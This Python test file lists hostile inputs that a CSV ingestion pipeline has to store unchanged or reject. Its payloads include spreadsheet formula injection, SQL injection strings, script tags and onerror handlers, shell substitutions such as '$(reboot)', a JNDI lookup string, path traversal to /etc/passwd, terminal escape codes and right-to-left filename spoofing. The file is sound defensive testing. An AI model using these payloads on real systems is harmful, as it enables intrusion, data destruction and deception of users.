"""Cases of texts that are meant for another reader: a spreadsheet, a database, a browser, a terminal, a file system.

Texts are kept as they came; what matters is that nobody on the way takes them for instructions.
"""

from __future__ import annotations

import csv
import io

from tests.hostile.case import BRNO, PRAHA, Bad, Case, Outcome, table

GROUP = "Texts"
SCRIPT = "<script>alert('zpo2')</script>"
INJECTION = "Robert'); drop table observations; --"
BOTH = Outcome(((PRAHA, 1.0), (BRNO, 2.0)))
BLANKS = "with a blank for each control character, line end or tab"
LONG = "Llanfair" * 12_500


def areas(case: str, what: str, *names: str, kept: tuple[str, ...] | None = None, also: str = BLANKS) -> Case:
    """A source of areas with hostile names, which must be in the lake as they came, or as `kept`, of which `also` says how."""
    result = tuple((f"{case}:{i}", name) for i, name in enumerate(kept if kept is not None else names, 1))
    return Case(
        case, GROUP, what, written(["code", "name"], *([str(i), name] for i, name in enumerate(names, 1))), Outcome(result,
        also="each name as it came" if kept is None else also),
        into="areas", columns="{code: {required: true}, name: {}}",
        map=f"{{area: {{ref_area: \"'{case}:' || code\", level: \"'lau'\", name: name, parents: {{nuts0: \"'T'\"}}}}}}",
    )  # fmt: skip


def written(*rows: list[str]) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode()


CASES = [
    areas("formula_names", "cells that a spreadsheet would compute", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
             "=HYPERLINK(\"http://x.invalid\",\"x\")", "|calc"),
    Case("formula_for_number", GROUP, "a formula where a number is expected", table("554782,1", "582786,=1+1"),
         Outcome(((PRAHA, 1.0),), (Bad(3, "value", "not a number"),))),
    areas("control_characters", "control characters in names: bell, escape, backspace, delete, C1", "a\x07b", "\x1b[31mred\x1b[0m",
             "a\x08b", "a\x7fb", "a\x85b\x9bc", kept=("a b", "[31mred [0m", "a b", "a b", "a b c")),
    areas("right_to_left", "marks that turn the direction of writing round", "abc\u202egpj.exe", "\u200fשלום\u200e", "\u2066a\u2069",
             kept=("abcgpj.exe", "\u200fשלום\u200e", "a"), also="without what turns the text after it; marks of single letters stay"),
    areas("zero_width", "characters that nobody sees", "Br\u200bno", "B\ufeffrno", "Brno\u00ad", "\u2060Brno"),
    areas("many_marks", "a letter under five hundred combining marks", "Z" + "\u0301" * 500,
             kept=("Z" + "\u0301" * 4,), also="with the first four marks of the letter"),
    areas("astral", "characters beyond the first plane, and unassigned ones", "\U0001f3d8 Brno", "\U0010fffe", "\ufffe"),
    areas("sql_names", "SQL in names", INJECTION, "' or 1=1 --", '"; attach \'/x\' as x; --', "{{ config(x) }}", "$1 ? :name"),
    areas("script_names", "markup in names", SCRIPT, "<img src=x onerror=alert(1)>", "]]></script>", "&lt;b&gt;", "javascript:alert(1)"),
    areas("template_names", "templates, formats and shells in names", "{0.__class__}", "%s%n%x", "$(reboot)", "`id`",
             "${jndi:ldap://x.invalid/a}", "{% raw %}"),
    areas("path_names", "names that look like paths", "../../../../etc/passwd", "C:\\Windows\\System32", "file:///etc/passwd", "con",
             "a/b"),
    areas("long_name", "a name of a hundred thousand letters", LONG),
    areas("line_ends_in_names", "line ends and tabs inside names", "a\nb", "a\r\nb", "a\tb", "a\u2028b",
             kept=("a b", "a b", "a b", "a b")),
    areas("quotes_in_names", "quotes, separators and backslashes in names", '"', '""', "a,b;c", "\\", "'", "\\N", "NULL", "null", "NaN",
             "#N/A"),
    Case("path_in_code", GROUP, "a path where a code is expected", table("../../etc/passwd,1", "582786,2"),
         Outcome(((BRNO, 2.0),), (Bad(2, None, "code ../../etc/passwd of scheme cz: unknown"),))),
    Case("sql_in_code", GROUP, "SQL where a code is expected", table(f"{INJECTION},1", "582786,2"), Outcome(((BRNO, 2.0),), (Bad(2, None,
             "of scheme cz: unknown"),))),
    Case("sql_in_period", GROUP, "SQL where a period is expected", written(["code", "year", "value"], ["554782", "2021'; drop table input; --",
             "1"], ["582786", "2021", "2"]),
         Outcome(((BRNO, 2.0),), (Bad(2, None, "not a year, quarter, month or date"),)),
         columns="{code: {required: true}, year: {}, value: {type: number}}", period="year"),
    Case("sql_column_name", GROUP, "SQL in the name of a column", written(["code", 'value"); drop table input; --'], ["554782", "1"],
             ["582786", "2"]), BOTH,
         columns="{code: {required: true}, value: {from: 'value\"); drop table input; --', type: number}}"),
    Case("sql_column_ignored", GROUP, "the same column, called by the pack's `ignore`", written(["code", 'x" or 1=1 --', "value"],
             ["554782", "a", "1"], ["582786", "b", "2"]),
         Outcome(((BRNO, 2.0),), ignored={"ignore": 1}), read="{format: csv, ignore: '\"x\"\" or 1=1 --\" = ''a'''}"),
    Case("keyword_columns", GROUP, "columns called as SQL's own words", written(["select", "from", "code", "where"], ["a", "b", "554782",
             "1"], ["c", "d", "582786", "2"]), BOTH,
         columns='{code: {required: true}, select: {}, from: {}, where: {type: number}}', value="'\"where\"'"),
    Case("script_column", GROUP, "markup in the name of a column", written(["code", SCRIPT], ["554782", "1"], ["582786", "2"]), BOTH,
         columns=f"{{code: {{required: true}}, value: {{from: \"{SCRIPT}\", type: number}}}}"),
    Case("empty_column_names", GROUP, "columns without a name, and one of blanks", written(["code", "", "  ", "value"], ["554782", "a", "b",
             "1"], ["582786", "c", "d", "2"]), BOTH),
    Case("long_column_name", GROUP, "a column name of a hundred thousand letters", written(["code", "x" * 100_000, "value"], ["554782", "a",
             "1"], ["582786", "b", "2"]), BOTH),
    Case("control_in_bad_cell", GROUP, "terminal commands in a cell that goes to quarantine", table("554782,1",
             "582786,\x1b]0;owned\x07\x1b[2J"),
         Outcome(((PRAHA, 1.0),), (Bad(3, "value", "not a number"),))),
    Case("script_in_bad_cell", GROUP, "markup in a cell that goes to quarantine", table("554782,1", f'582786,"{SCRIPT}"'),
         Outcome(((PRAHA, 1.0),), (Bad(3, "value", "not a number"),))),
    Case("html_entities", GROUP, "numbers with entities of a web page", table("554782,1", "582786,1&nbsp;234"), Outcome(((PRAHA, 1.0),),
             (Bad(3, "value", "not a number"),))),
]  # fmt: skip
